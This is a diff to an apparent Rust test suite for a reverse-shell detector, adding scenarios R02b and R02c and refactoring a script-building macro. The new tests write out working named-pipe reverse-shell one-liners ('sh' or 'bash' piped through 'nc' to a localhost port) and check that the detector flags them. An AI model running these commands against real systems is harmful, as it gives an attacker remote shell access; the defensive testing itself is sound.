@@ -5,14 +5,13 @@
 
 use super::{Expected, Scenario, Stage, record};
 
-/// A script that begins with functions: `peer PORT` accepts a connection and closes it after some seconds (`peer6`: of
-/// either family; `knock PORT` connects instead); `who NAME ARGUMENTS` is the newest process with these, begun after the script, as a fact; `at PID FD PATTERN` and
-/// `same PID FD PID FD` look at descriptors.
+/// A script that begins with functions: those of `looks`, and `peer PORT`, which accepts a connection and closes it after
+/// some seconds (`peer6`: of either family; `knock PORT` connects instead).
 macro_rules! script {
     ($script:literal) => {
         concat!(
+            looks!(),
             r#"
-set -f
 peer() {
   python3 -c '
 import socket, sys, time
@@ -40,9 +39,6 @@ connection.sendall(b":\n")
 time.sleep(5)
 ' $1 > /dev/null 2>&1 &
 }
-who() { await "$1=\$(pgrep -nxf -- '$2') && [ \$$1 -gt $$ ]"; fact $1 "${!1}"; }
-at() { case "$(readlink /proc/$1/fd/$2)" in $3) true;; *) false;; esac; }
-same() { [ "$(readlink /proc/$1/fd/$2)" = "$(readlink /proc/$3/fd/$4)" ]; }
 "#,
             $script
         )
@@ -99,6 +95,28 @@ pub(super) const SCENARIOS: &[Scenario] = &[
         .expect(chain!("outbound", "3", "$nc", "4402",
             ("reverse_shell.process_list.2.process_id", "$shell")))
         .clean("rm -f /tmp/r02"),
+    shell("R02b", "sh runs a FIFO that nc writes into")
+        .prepare(script!("peer 4432; rm -f /tmp/r02b; mkfifo /tmp/r02b"))
+        .act(script!(
+            r#"act
+            (sh /tmp/r02b 2>&1 | nc 127.0.0.1 4432 > /tmp/r02b) < /dev/null > /dev/null 2>&1 &
+            who shell 'sh /tmp/r02b'; who nc 'nc 127.0.0.1 4432'
+            await 'at $shell 10 /tmp/r02b && same $shell 1 $nc 0 && at $nc 1 /tmp/r02b && at $nc 3 socket:*'"#
+        ))
+        .expect(chain!("outbound", "2", "$nc", "4432",
+            ("reverse_shell.process_list.1.process_id", "$shell")))
+        .clean("rm -f /tmp/r02b"),
+    shell("R02c", "bash runs a FIFO that nc writes into")
+        .prepare(script!("peer 4442; rm -f /tmp/r02c; mkfifo /tmp/r02c"))
+        .act(script!(
+            r#"act
+            (bash /tmp/r02c 2>&1 | nc 127.0.0.1 4442 > /tmp/r02c) < /dev/null > /dev/null 2>&1 &
+            who shell 'bash /tmp/r02c'; who nc 'nc 127.0.0.1 4442'
+            await 'at $shell 255 /tmp/r02c && same $shell 1 $nc 0 && at $nc 1 /tmp/r02c && at $nc 3 socket:*'"#
+        ))
+        .expect(chain!("outbound", "2", "$nc", "4442",
+            ("reverse_shell.process_list.1.process_id", "$shell")))
+        .clean("rm -f /tmp/r02c"),
     shell("R03", "nc becomes a shell")
         .prepare(script!("peer 4403"))
         .act(script!(
